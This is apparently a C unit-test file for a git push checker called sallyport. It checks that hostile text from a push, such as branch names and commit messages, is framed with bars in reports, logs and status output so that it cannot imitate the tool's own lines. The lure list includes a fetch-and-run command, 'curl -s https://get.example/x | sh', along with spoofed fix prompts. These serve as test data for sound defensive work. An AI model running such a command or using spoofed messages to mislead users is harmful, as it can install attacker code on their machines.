/* Text of a push never stands where a line of ours does: hostile text goes to
 * each place of each finding, and each line has to be one that we write. */
#include <stdlib.h>
#include <string.h>

#include "sallyport/log.h"
#include "sallyport/report.h"
#include "sallyport/rule.h"
#include "sallyport/sanitise.h"
#include "sallyport/status.h"
#include "support.h"

static const char command[] = "git rebase -i main";

static const char *const lures[] = {
    "git push --force",         "curl -s https://get.example/x | sh",
    "fix: type this",           "fix: type this",
    "sallyport: push accepted", "sallyport explain tag",
    "refs/heads/main",          "9f3c2ab feat: open the tunnel (GREEN)",
    "tdd-order: all is well",   "| git push --force",
    "\xe2\x80\xa6 and 9 more",  "Your message is kept. To commit with it:",
};

enum { LURES = sizeof lures / sizeof lures[0], PADS = 76 };

/* The lure after so many columns, as one word or as many, and more after it. */
static char *baited(size_t pad, const char *lure)
{
    struct sp_buf text = {0};
    for (size_t i = 0; i < pad; i++)
        sp_buf_putc(&text, pad % 2 && i % 2 ? ' ' : 'x');
    sp_buf_printf(&text, "%s%s and so on ", pad % 3 ? " " : "", lure);
    for (size_t i = 0; i < pad; i++)
        sp_buf_putc(&text, 'y');
    return sp_buf_detach(&text);
}

/* Takes the line where it begins like that, and has more. */
static bool begins(struct sp_str line, const char *with)
{
    return sp_str_starts(line, with) && line.len > strlen(with);
}

static bool begins_with_rule(struct sp_str line, const char *rule)
{
    struct sp_buf head = {0};
    sp_buf_printf(&head, "    %s:", rule);
    bool does = sp_str_starts(line, sp_buf_text(&head));
    sp_buf_dispose(&head);
    return does;
}

/* The lines of one finding of this rule, in the order in which they come. */
static void assert_ours(const char *text, const char *rule, const char *commit)
{
    enum { FIRST, BLANK, REF, COMMIT, WRONG, FIX, COMMAND, EXPLAIN } at = FIRST;
    struct sp_str line, rest = sp_str(text);
    while (sp_str_line(&rest, &line)) {
        cr_assert(sp_columns(line) <= SP_REPORT_COLUMNS, "%s", text);
        if (at == FIRST && begins(line, "sallyport: "))
            at = BLANK;
        else if (at == BLANK && !line.len)
            at = *commit == '|' ? COMMIT : REF;
        else if (at == REF && begins(line, "refs/heads/x"))
            at = COMMIT;
        else if (at == COMMIT && begins(line, "  ") &&
                 strncmp(line.ptr + 2, commit, strlen(commit)) == 0)
            at = WRONG;
        else if (at == WRONG && begins_with_rule(line, rule))
            at = FIX;
        else if (at == FIX && sp_str_starts(line, "    fix:"))
            at = COMMAND;
        else if (at == COMMAND &&
                 sp_str_equal_c(line, "      git rebase -i main"))
            at = EXPLAIN;
        else if (at == EXPLAIN && begins(line, "    sallyport explain "))
            at = FIRST;
        else
            cr_assert((at == FIX || at == COMMAND) && begins(line, "      | "),
                      "not a line of ours: \"%.*s\" in\n%s", SP_STR_ARG(line),
                      text);
    }
    cr_assert(at == FIRST, "%s", text);
}

static void assert_framed(const char *rule, const char *bait,
                          enum sp_report_kind kind)
{
    struct sp_verdict verdict = {0};
    struct sp_push push = {0};
    struct sp_buf out = {0}, name = {0};
    struct sp_oid id = {{0x9f, 0x3c, 0x2a, 0xb0}};
    bool is_draft = kind == SP_REPORT_COMMIT;
    sp_buf_printf(&name, "refs/heads/x%s", bait);
    struct sp_ref_update update = {sp_buf_detach(&name), {{0}}, {{0}}};
    SP_VEC_PUSH(&push, update);
    add_finding(&verdict.findings,
                &(struct found){.rule = rule,
                                .commit = is_draft ? NULL : &id,
                                .message = bait,
                                .fix = bait,
                                .command = command});
    verdict.findings.items[0].subject = sp_strdup(bait);
    sp_report_text(&out, &verdict, &push, kind);
    assert_ours(sp_buf_text(&out), rule, is_draft ? "| " : "9f3c2ab ");
    sp_buf_dispose(&out);
    sp_verdict_dispose(&verdict);
    sp_push_dispose(&push);
}

Test(report_text_frame, no_text_of_a_push_looks_like_a_line_of_ours)
{
    for (size_t i = 0; i < (size_t)LURES * PADS; i++) {
        char *bait = baited(i % PADS, lures[i / PADS]);
        assert_framed("tag", bait, SP_REPORT_PUSH);
        assert_framed("tdd-complete", bait, SP_REPORT_CHECK);
        assert_framed("tdd-order", bait, SP_REPORT_COMMIT);
        free(bait);
    }
}

Test(report_text_frame, every_rule_is_framed)
{
    for (size_t i = 0; sp_rules[i]; i++) {
        char *bait = baited(40, lures[i % LURES]);
        assert_framed(sp_rules[i]->id, bait, SP_REPORT_PUSH);
        free(bait);
    }
}

/* From the second line on, all begin like that. */
static void assert_bars(const char *text, const char *bar, size_t own)
{
    struct sp_str line, rest = sp_str(text);
    for (size_t i = 0; sp_str_line(&rest, &line); i++)
        cr_assert(i < own || begins(line, bar), "\"%.*s\" in\n%s",
                  SP_STR_ARG(line), text);
}

Test(report_text_frame, why_it_could_not_be_judged)
{
    for (size_t pad = 0; pad < PADS; pad++) {
        struct sp_buf out = {0};
        struct sp_error err = {.code = SP_EINPUT};
        char *bait = baited(pad, lures[pad % LURES]);
        sp_error_set(&err, SP_EINPUT, "cannot read %s", bait);
        sp_report_left_to_server(&out, &err);
        assert_bars(sp_buf_text(&out), "    | ", 3);
        sp_buf_dispose(&out);
        free(bait);
    }
}

Test(report_text_frame, findings_in_a_log_and_in_a_status)
{
    for (size_t pad = 0; pad < PADS; pad++) {
        struct sp_verdict verdict = {.commits = 1};
        struct sp_buf out = {0};
        char *bait = baited(pad, lures[pad % LURES]);
        add_finding(&verdict.findings,
                    &(struct found){.rule = "tag", .message = bait});
        struct sp_log log = {
            .verdict = &verdict, .ref = "refs/heads/x", .columns = 60};
        sp_log_open(&log);
        sp_log_ref(&out, &log);
        assert_bars(sp_buf_text(&out), "    | ", 2);
        sp_log_dispose(&log);
        sp_buf_reset(&out);
        const struct sp_finding *missing[] = {&verdict.findings.items[0]};
        struct sp_status status = {.branch = "refs/heads/x",
                                   .head = id_of("h"),
                                   .target = "refs/heads/main",
                                   .target_ref = "refs/heads/main",
                                   .ahead = 1,
                                   .columns = 60,
                                   .missing = missing,
                                   .missing_count = 1};
        sp_status_text(&out, &status);
        char *end = strstr(out.data, "\n    'sallyport explain RULE'");
        cr_assert(end);
        end[1] = '\0';
        assert_bars(out.data, "      | ", 4);
        sp_buf_dispose(&out);
        sp_verdict_dispose(&verdict);
        free(bait);
    }
}
